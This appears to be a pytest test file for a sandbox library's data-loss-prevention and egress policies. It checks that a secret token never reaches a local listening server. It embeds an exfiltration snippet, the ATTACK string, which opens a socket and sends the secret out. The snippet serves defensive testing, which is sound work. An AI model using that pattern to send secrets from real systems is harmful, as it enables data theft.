"""Claim: a policy that asks for what is sent to be scanned sends nothing past the scan: where something may leave by a
way on which nothing is scanned, the policy is refused by the name of the word, and not one byte arrives.
"""

from __future__ import annotations

import itertools
import socket
import threading
from contextlib import ExitStack, suppress
from typing import Any

import pytest

from _support.outside import LISTED, outside
from pysandbox import Cage, PolicyError

from .harness import policy, program, token, uncaged

ATTACK = """
    import socket
    with socket.create_connection((ADDRESS, PORT), 20) as s:
        s.sendall(SECRET.encode())
        s.recv(1)
"""
WORDS: list[dict[str, Any]] = [
    {"dlp_enabled": True}, {"strict": True}, {"dlp_canary_tokens": True}, {"dlp_session_entropy_budget": 1},
]  # fmt: skip
ASKS = [*WORDS, *({**one, **two} for one, two in itertools.combinations(WORDS, 2))]
BESIDES: dict[str, dict[str, Any]] = {
    "addresses alone": {},
    "proxy-only": {"egress": "proxy-only"},
    "landlock": {"isolation": "landlock", "run_as": "self"},
    "loopback": {"allow_host_loopback": True},
    "a host": {"egress": "proxy-only", "hosts": ["api.example"]},
    "a contract": {"egress": "proxy-only", "hosts": [{"domain": "api.example", "methods": ["GET"]}]},
    "direct": {"egress": "direct", "unsafe_direct": True},
    "monitored": {"notifier": True},
}  # fmt: skip


def arrived(each: list[dict[str, Any] | None]) -> list[list[object]]:
    """For each policy whether the secret arrived where it was sent to, and the word by which the policy was refused."""
    return [_arrived(rules) for rules in each]


def _arrived(rules: dict[str, Any] | None) -> list[object]:
    secret, heard, refused = token(), bytearray(), ""
    with ExitStack() as stack:
        server = stack.enter_context(socket.create_server((LISTED, 0)))
        threading.Thread(target=_take, args=(server, heard), daemon=True).start()
        argv = program(ATTACK, ADDRESS=LISTED, PORT=server.getsockname()[1], SECRET=secret)
        if rules is None:
            uncaged(argv)
        else:
            try:
                stack.enter_context(Cage(policy(**rules))).run(argv)
            except PolicyError as error:
                refused = str(error.key)
    return [secret.encode() in heard, refused]


def _take(server: socket.socket, heard: bytearray) -> None:
    with suppress(OSError), server.accept()[0] as connection:  # nobody came, and the test is over
        while said := connection.recv(100):
            heard += said
            connection.sendall(b"x")


def test_uncaged_and_without_the_word_it_arrives() -> None:
    assert outside(arrived, [None, {"allow_ips": [LISTED]}]) == [[True, ""], [True, ""]]


@pytest.mark.parametrize("besides", BESIDES)
def test_by_an_address_nothing_leaves(besides: str) -> None:
    for sent, refused in outside(arrived, [{"allow_ips": [LISTED], **BESIDES[besides], **each} for each in ASKS]):
        assert not sent
        assert refused.startswith(("network.dlp.", "strict", "network.egress", "host")), refused
